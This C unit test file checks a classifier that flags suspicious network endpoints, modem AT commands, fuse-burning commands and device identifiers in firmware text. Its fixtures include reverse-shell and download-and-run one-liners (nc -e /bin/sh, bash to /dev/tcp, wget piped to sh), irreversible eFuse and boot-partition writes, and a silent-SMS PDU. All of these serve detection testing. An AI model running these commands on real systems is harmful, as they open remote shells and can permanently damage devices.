/* SPDX-License-Identifier: Apache-2.0 */
/* What a text holds, and what it only seems to hold. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "images/token.h"

struct found {
	char text[1024];
	size_t n;
};

static int
on_token(void *arg, enum token_class class, struct view token, size_t at)
{
	struct found *f = arg;
	(void)at;
	f->n += (size_t)snprintf(f->text + f->n, sizeof f->text - f->n, "%s[%s %.*s]", f->n ? " " : "", token_class_name(class),
	    (int)token.n, (const char *)token.p);
	assert_true(f->n < sizeof f->text);
	return 0;
}

static void
check(const char *text, const char *want)
{
	struct found f = { "", 0 };
	assert_int_equal(token_classify(view_str(text), on_token, &f), 0);
	if (strcmp(f.text, want) != 0)
		fail_msg("%s\n  gave %s\n  want %s", text, f.text, want);
}

static void
contact_points(void **state)
{
	(void)state;
	check("GET http://203.0.113.77:8080/Up/a?b=1 now", "[URL http://203.0.113.77:8080/Up/a?b=1] [IPv4 address 203.0.113.77]");
	check("see <HTTPS://Evil.Example.COM/Path>.", "[URL https://evil.example.com/Path] [host name evil.example.com]");
	check("http://u:p@evil.top./x", "[URL http://u:p@evil.top./x] [host name evil.top]");
	check("http://[2001:db8::7]:80/", "[URL http://[2001:db8::7]:80/] [IPv6 address 2001:db8::7]");
	check("x=ftp://files/fw.bin;", "[URL ftp://files/fw.bin] [host name files]");
	check("https://a.example/?next=https://b.example/x",
	    "[URL https://a.example/?next=https://b.example/x] [host name a.example] [URL https://b.example/x] [host name b.example]");
	check("server=telemetry.badcorp.cn", "[host name telemetry.badcorp.cn]");
	check("x telemetry.badcorp.cn. y", "[host name telemetry.badcorp.cn]");
	check("domain=.evil.com", "[host name evil.com]");
	check("%s.data.evil.com", "[host name data.evil.com]");
	check("xn--80ak6aa92e.xn--p1ai", "[host name xn--80ak6aa92e.xn--p1ai]");
	check("connect 198.51.100.23 now", "[IPv4 address 198.51.100.23]");
	check("addr:10.64.1.2,", "[IPv4 address 10.64.1.2]");
	check("5.6.7.8:443", "[IPv4 address 5.6.7.8]");
	check("ip 2a02:1234:5::1 end", "[IPv6 address 2a02:1234:5::1]");
	check("call +86 138 0013 8000!", "[telephone number +8613800138000]");
	check("\"+4930123456\"", "[telephone number +4930123456]");
	check("+49 30 1234567 2026-11-30", "[telephone number +493012345672026]"); /* more behind it does not hide it */
	check("tel:110 and sms:+12025550123", "[telephone number 110] [telephone number +12025550123]");
	check("from Ops@Example.com,", "[e-mail address ops@example.com]");
	check("mqtt://broker.evil.com:1883/x", "[message broker mqtt://broker.evil.com:1883/x] [host name broker.evil.com]");
	check("coap+tcp://[2001:db8::5]/rd", "[message broker coap+tcp://[2001:db8::5]/rd] [IPv6 address 2001:db8::5]");
	check("iot.vendor.com:8883 ", "[host name iot.vendor.com] [message broker iot.vendor.com:8883]");
	check("apn=internet.evil", "[access point name internet.evil]");
	check("option apn 'm2m.net'", "[access point name m2m.net] [host name m2m.net]");
	check("x iot.mnc001.mcc262.gprs y", "[access point name iot.mnc001.mcc262.gprs]");
	check("{\"apn\":\"cmnet\"}", "[access point name cmnet]");
}

/* Versions, file names, members, formats, arithmetic: nothing of it is a contact point. */
static void
nothing_to_report(void **state)
{
	(void)state;
	static const char *const texts[] = { "v1.2.3.4 1.2.3.4 libfoo-1.2.3.4", "1.3.6.1.4.1.2021", "127.0.0.1 0.0.0.0 255.255.255.0",
		"foo.c:123: bar.py:42", "install.sh main.rs libfoo.so lib.foo.so", "this.top = self.name.id", "org.freedesktop.DBus.io",
		"com.android.phone.app", "/usr/share/x.md", "std::vector<a::b>", "12:34:56 aa:bb", "http://%s:%d/%s", "http://127.0.0.1/x",
		"http://localhost/x", "file:///etc/passwd", "x@y foo@bar.service getty@.service", "a+12345678 b/+4930123456",
		"@@ -100,20 +101,30 @@", "+0100 +1", "= +1e10", "...........", "Copyright (C) 2004-2026", "data.rel.ro.local", "at%s at+t AT&T",
		"apn=NULL apn=0", "1.2.840.113549.1.1.11", "0123456789abcdef0123456789abcdef", "telnetd is a daemon; nc is a tool",
		"the shell is sh | a pipe", "echo a | sort", "sed 's|sh|x|'", "wget --help", "curl | less" };
	for (size_t i = 0; i < sizeof texts / sizeof texts[0]; i++)
		check(texts[i], "");
}

static void
commands_of_the_modem(void **state)
{
	(void)state;
	check("AT+CGSN", "[AT command AT+CGSN]");
	check("send \"AT+CGSN=1\",\"x\"", "[AT command AT+CGSN=1]");
	check("at+cfun=1,1", "[AT command at+cfun=1,1]");
	check("AT+CGDCONT=1,\"IP\",\"evil.apn\"\\r", "[AT command AT+CGDCONT=1,\"IP\",\"evil.apn\"] [access point name evil.apn]");
	check("ATD+4930123456;", "[telephone number 4930123456] [AT command ATD+4930123456]");
	check("ATD493012343586012904047905612345678;", "[telephone number 493012343586012904047905] [AT command ATD493012343586012904047905612345678]");
	check("ATDT5551234", "[telephone number 5551234] [AT command ATDT5551234]");
	check("AT+CNMI=2,2", "[AT command AT+CNMI=2,2] [silent message AT+CNMI=2,2]");
	check("AT+QCFG=\"usbcfg\",0x2C7C", "[AT command AT+QCFG=\"usbcfg\",0x2C7C] [diagnosis switch AT+QCFG=\"usbcfg\",0x2C7C]");
	check("strstr(b, \"+CMT:\")", "[silent message +cmt:]");
	check("open(\"/dev/diag\")", "[diagnosis switch /dev/diag]");
	check("setprop sys.usb.config diag,adb", "[diagnosis switch sys.usb.config]");
	check("sys.usb.config=diag,adb", "[diagnosis switch sys.usb.config=diag,adb]");
	check("supl.evil.com:7275", "[positioning server supl.evil.com]");
	check("http://xtra3.gpsonextra.net/xtra.bin", "[URL http://xtra3.gpsonextra.net/xtra.bin] [positioning server xtra3.gpsonextra.net]");
	check("nameserver 203.0.113.5", "[name server 203.0.113.5]");
	check("use 8.8.8.8", "[name server 8.8.8.8]");
	check("https://dns.evil.com/dns-query", "[URL https://dns.evil.com/dns-query] [host name dns.evil.com] [name server dns.evil.com]");
	/* SMS-SUBMIT to +49 170 1234567 with protocol identifier 40: type 0. The same with 00 is an ordinary message. */
	check("0001000C919471103254764000" "0AE8329BFD4697D9EC37", "[silent message 0001000c91947110325476400" "00ae8329bfd4697d9ec37]");
	check("0001000C919471103254760000" "0AE8329BFD4697D9EC37", "");
}

/* What changes a module for good; what only speaks of it is left alone. */
static void
commands_that_last(void **state)
{
	(void)state;
	check("fuse prog -y 0 6 0x2; reset", "[lasting command fuse prog -y 0 6 0x2]");
	check("\tfuse -y prog 0 6", "[lasting command fuse -y prog 0 6]");
	check("/usr/bin/espefuse.py --port /dev/ttyS0 burn_key secure_boot k.bin",
	    "[lasting command espefuse.py --port /dev/ttyS0 burn_key secure_boot k.bin] [lasting command burn_key secure_boot k.bin]");
	check("dd if=/tmp/sbl of=/dev/mmcblk0boot0 bs=512", "[lasting command dd if=/tmp/sbl of=/dev/mmcblk0boot0 bs=512]");
	check("sync; cat /tmp/x > /dev/block/by-name/aboot && sync", "[lasting command cat /tmp/x > /dev/block/by-name/aboot]");
	check("echo 1 >/sys/bus/nvmem/devices/imx-ocotp0/nvmem", "[lasting command echo 1 >/sys/bus/nvmem/devices/imx-ocotp0/nvmem]");
	check("mmc writeprotect boot set /dev/mmcblk0", "[lasting command mmc writeprotect boot set /dev/mmcblk0]");
	check("flash_otp_lock -u /dev/mtd0 0 64", "[lasting command flash_otp_lock -u /dev/mtd0 0 64]");
	check("esp_efuse_update_secure_version", "[lasting command esp_efuse_update_secure_version]");
	static const char *const texts[] = { "fuse is a file system", "blown fuse program", "the fuse: prog", "mmc read 0x80000000 0 10",
		"cat /dev/mmcblk0boot0", "mount -t fuse", "otp codes are written", "/sys/bus/nvmem/devices/imx-ocotp0/nvmem",
		"mmc0: new card", "efuse driver", "dd if=/dev/mmcblk0boot0 bs=1" };
	for (size_t i = 0; i < sizeof texts / sizeof texts[0]; i++)
		check(texts[i], "");
}

static void
commands_of_the_shell(void **state)
{
	(void)state;
	check("wget -q -O- http://x.top/a | sh", "[URL http://x.top/a] [host name x.top] [shell command wget -q -O- http://x.top/a | sh]");
	check("base64 -d /tmp/x | /bin/busybox ash", "[shell command base64 -d /tmp/x | /bin/busybox ash]");
	check("wget /tmp/a && chmod +x /tmp/a", "[shell command wget /tmp/a && chmod +x /tmp/a]");
	check("eval \"$(curl -s x)\"", "[shell command curl -s x)\"]");
	check("nc -e /bin/sh 1", "[shell command nc -e /bin/sh 1]");
	check("busybox nc -lp 23", "[listening program nc -lp 23]");
	check("bash -i >& /dev/tcp/h/1", "[shell command bash -i >& /dev/tcp/h/1] [shell command dev/tcp/h/1]");
	check("socat tcp-listen:23 exec:sh", "[shell command socat tcp-listen:23 exec:sh]");
	check("telnetd -l /bin/sh &", "[listening program telnetd -l /bin/sh]");
	check("\t/usr/sbin/dropbear", "[listening program dropbear]");
	check("::respawn:/sbin/adbd", "[listening program adbd]");
}

static void
identities(void **state)
{
	(void)state;
	check("imei 490154203237518,", "[IMEI 490154203237518]"); /* 3GPP TS 23.003's own example */
	check("490154203237517", ""); /* its check digit is wrong, and 490 is no country */
	check("imsi=262011234567890", "[IMSI 262011234567890]");
	check("8949017000000000043", "[ICCID 8949017000000000043]");
	check("0.490154203237518 123456789012345678901", "");
	check("mac 02:1a:2B:3c:4d:5e x", "[MAC address 021a2b3c4d5e]");
	check("02-1a-2b-3c-4d-5e", "[MAC address 021a2b3c4d5e]");
	check("ff:ff:ff:ff:ff:ff 00:00:00:00:00:00 AA:BB:CC:DD:EE:FF:00:11", "");
}

/* Long texts, hostile ones, and cuts: linear, and nothing over TOKEN_LEN_MAX. */
static int
bounded(void *arg, enum token_class class, struct view token, size_t at)
{
	assert_true(class > TOKEN_NONE && class < TOKEN_CLASS_LIMIT);
	assert_true(token.n > 0 && token.n <= TOKEN_LEN_MAX && at < TOKEN_RUN_MAX);
	return ++*(int *)arg == 1000000;
}

static void
hostile_texts(void **state)
{
	(void)state;
	static const char *const pieces[] = { "http://", "a@", "|sh", "wget ", "$(wget ", "+1", "tel:", "a.", "aa:", "AT+AA=\"", "apn=", "nc -l ",
		"%s.", "[", "::", "89", "+49 ", "a.com:8883", "\"", "-", "AT+CGDCONT=", "/dev/tcp/", "0001000C9194" };
	static char text[2 * TOKEN_RUN_MAX];
	uint32_t x = 1;
	int n = 0;
	for (unsigned round = 0; round < 200; round++) {
		size_t len = 0;
		const char *piece = pieces[round % (sizeof pieces / sizeof pieces[0])];
		while (len + 20 < sizeof text) {
			if (round >= 100) {
				x = x * 1664525u + 1013904223u;
				piece = pieces[(x >> 16) % (sizeof pieces / sizeof pieces[0])];
			}
			memcpy(text + len, piece, strlen(piece));
			len += strlen(piece);
		}
		assert_int_equal(token_classify(view_of(text, len), bounded, &n), 0);
	}
	assert_true(n > 1000);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(contact_points),
		cmocka_unit_test(nothing_to_report),
		cmocka_unit_test(commands_of_the_modem),
		cmocka_unit_test(commands_of_the_shell), cmocka_unit_test(commands_that_last),
		cmocka_unit_test(identities),
		cmocka_unit_test(hostile_texts),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
